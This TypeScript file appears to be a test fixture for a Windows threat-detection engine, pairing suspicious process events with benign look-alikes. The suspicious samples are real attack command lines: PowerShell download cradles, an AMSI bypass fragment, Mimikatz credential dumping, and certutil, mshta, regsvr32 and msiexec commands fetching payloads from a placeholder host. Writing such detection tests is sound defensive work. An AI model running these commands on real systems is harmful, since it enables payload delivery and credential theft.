import { type Case, event, ran, script } from './case.fixture.ts';

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const S32 = 'C:\\Windows\\System32\\';
const TEMP = 'C:\\Users\\alice\\AppData\\Local\\Temp\\';
const BASE64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA';

const access = (source: string, target: string, mask: string, trace = `${S32}ntdll.dll+1`) =>
  event(
    'process',
    'access',
    { process: source, file: target },
    { SourceImage: source, TargetImage: target, GrantedAccess: mask, CallTrace: trace },
  );
const load = (process: string, library: string, signed = 'true') =>
  event('module', 'load', { process, file: library }, { ImageLoaded: library, Signed: signed });

/** Powershell, execution, injection. */
export const WINDOWS_EXECUTION_CASES: readonly Case[] = [
  ['powershell-encoded', ran(`powershell.exe -NoP -enc ${BASE64}`), ran('powershell.exe -Encoding utf8 file.ps1')],
  [
    'powershell-hidden',
    ran('powershell.exe -nop -w hidden -c "Get-Date"'),
    ran('powershell.exe -WindowStyle Normal -NoLogo'),
  ],
  [
    'powershell-download-cradle',
    ran(`powershell.exe "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"`),
    ran("powershell.exe (New-Object Net.WebClient).DownloadString('http://x/a')"),
  ],
  [
    'powershell-download',
    script('Invoke-WebRequest http://203.0.113.9/tool.exe -OutFile tool.exe'),
    script('Invoke-WebRequest http://203.0.113.9/status'),
  ],
  [
    'amsi-bypass',
    script("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"),
    script('Get-Command amsi'),
  ],
  ['offensive-powershell', script('Invoke-Mimikatz -DumpCreds'), script('Invoke-Command { hostname }')],
  ['powerview-discovery', script('Get-DomainUser -SPN'), script('Get-ADDomain')],
  ['bloodhound', ran('SharpHound.exe --CollectionMethods All'), ran('hound.exe --all')],
  ['powershell-reflection', script('[Byte[]]$b = 1; $k = VirtualAlloc(kernel32)'), script('$b = VirtualMachine')],
  ['command-obfuscated', script('[char]73+[char]69+[char]88+[char]32+[char]40+[char]78+[char]101'), script('[char]73')],
  [
    'powershell-engine-elsewhere',
    load(`${TEMP}grunt.exe`, `${S32}System.Management.Automation.dll`),
    load(`${S32}svc.exe`, `${S32}System.Management.Automation.dll`),
  ],
  [
    'dotnet-in-odd-host',
    load(`${S32}notepad.exe`, 'C:\\Windows\\Microsoft.NET\\clr.dll'),
    load(`${S32}notepad.exe`, `${S32}kernel32.dll`),
  ],
  ['office-spawns-shell', ran('cmd.exe /c dir', CMD, WORD), ran('cmd.exe /c dir', CMD, 'C:\\Windows\\explorer.exe')],
  [
    'browser-spawns-shell',
    ran('cmd.exe /c a.bat', CMD, EDGE),
    ran('cmd.exe /c host.bat chrome-extension://abc --parent-window=0', CMD, EDGE),
  ],
  [
    'script-from-download',
    ran('wscript.exe C:\\Users\\alice\\Downloads\\invoice.js', `${S32}wscript.exe`),
    ran('wscript.exe C:\\Windows\\System32\\slmgr.vbs', `${S32}wscript.exe`),
  ],
  ['mshta-remote', ran('mshta.exe http://203.0.113.9/a.hta'), ran('mshta.exe C:\\app\\setup.hta')],
  [
    'regsvr32-scriptlet',
    ran('regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll'),
    ran('regsvr32 /s C:\\Windows\\System32\\a.ocx'),
  ],
  [
    'rundll32-script',
    ran('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";'),
    ran('rundll32.exe shell32.dll,Control_RunDLL'),
  ],
  [
    'library-from-user-directory',
    ran(`rundll32.exe ${TEMP}a.dll,Start`, `${S32}rundll32.exe`),
    ran('rundll32.exe C:\\Windows\\System32\\a.dll,Start', `${S32}rundll32.exe`),
  ],
  [
    'rundll32-bare',
    ran('C:\\Windows\\System32\\rundll32.exe', `${S32}rundll32.exe`),
    ran('rundll32.exe a.dll,b', `${S32}rundll32.exe`),
  ],
  [
    'certutil-misuse',
    ran('certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe'),
    ran('certutil.exe -hashfile a.exe SHA256'),
  ],
  ['bits-transfer', ran('bitsadmin /transfer job http://203.0.113.9/a.exe C:\\a.exe'), ran('bitsadmin /list')],
  ['download-to-disk', ran('curl.exe http://203.0.113.9/a.exe -o a.exe'), ran('curl.exe http://203.0.113.9/health')],
  ['developer-tool-proxy', ran('msbuild.exe C:\\Users\\alice\\a.csproj'), ran('msbuild.exe C:\\src\\app.sln')],
  ['msiexec-remote', ran('msiexec /q /i http://203.0.113.9/a.msi'), ran('msiexec /q /i C:\\setup\\a.msi')],
  ['wmic-script', ran('wmic os get /format:"http://203.0.113.9/a.xsl"'), ran('wmic os get /format:list')],
  [
    'indirect-execution',
    ran('forfiles /p c:\\windows /m notepad.exe /c calc.exe'),
    ran('forfiles /p c:\\logs /m *.log'),
  ],
  ['wmi-process-create', ran('wmic process call create "cmd.exe"'), ran('wmic process list brief')],
  [
    'wmi-spawns-shell',
    ran('cmd.exe /c whoami', CMD, `${S32}wbem\\WmiPrvSE.exe`),
    ran('notepad.exe', `${S32}notepad.exe`, `${S32}wbem\\WmiPrvSE.exe`),
  ],
  ['program-from-odd-directory', ran('x', 'C:\\Users\\Public\\a.exe'), ran('x', 'C:\\Program Files\\app\\a.exe')],
  ['double-extension', ran('x', 'C:\\docs\\invoice.pdf.exe'), ran('x', 'C:\\docs\\pdf.exe')],
  [
    'renamed-tool',
    event('process', 'create', { process: 'C:\\docs\\update.exe' }, { OriginalFileName: 'psexec.c' }),
    event('process', 'create', { process: `${S32}cmd.exe` }, { OriginalFileName: 'Cmd.Exe' }),
  ],
  [
    'compiler-from-script',
    ran('csc.exe /noconfig', 'C:\\Windows\\Microsoft.NET\\csc.exe', PS),
    ran('csc.exe /noconfig', 'C:\\Windows\\Microsoft.NET\\csc.exe', 'C:\\VS\\devenv.exe'),
  ],
  [
    'remote-thread',
    event(
      'process',
      'remote_thread',
      { process: `${TEMP}a.exe` },
      { SourceImage: `${TEMP}a.exe`, TargetImage: `${S32}svchost.exe` },
    ),
    event('process', 'remote_thread', {}, { SourceImage: `${S32}csrss.exe`, TargetImage: `${S32}svchost.exe` }),
  ],
  [
    'process-tampered',
    event('process', 'tamper', { process: 'C:\\a.exe' }, { Type: 'Image is replaced' }),
    event('process', 'terminate', { process: 'C:\\a.exe' }),
  ],
  [
    'injection-access',
    access(`${TEMP}a.exe`, `${S32}notepad.exe`, '0x1fffff', 'UNKNOWN(00000123)'),
    access(`${TEMP}a.exe`, `${S32}notepad.exe`, '0x1000', 'UNKNOWN(00000123)'),
  ],
  ['token-theft-tool', ran('JuicyPotato.exe -l 1337'), ran('potato.exe -l 1337')],
  ['pipe-impersonation', ran('cmd.exe /c echo abc > \\\\.\\pipe\\abc'), ran('cmd.exe /c echo abc > C:\\abc.txt')],
  ['tool-pipe', event('pipe', 'create', { file: '\\postex_ab12' }), event('pipe', 'create', { file: '\\chrome.1234' })],
  [
    'system-name-elsewhere',
    ran('svchost.exe', 'C:\\Users\\alice\\svchost.exe'),
    ran('svchost.exe -k x', `${S32}svchost.exe`),
  ],
  [
    'system-parent-odd',
    ran('svchost.exe', `${S32}svchost.exe`, PS),
    ran('svchost.exe', `${S32}svchost.exe`, `${S32}services.exe`),
  ],
];
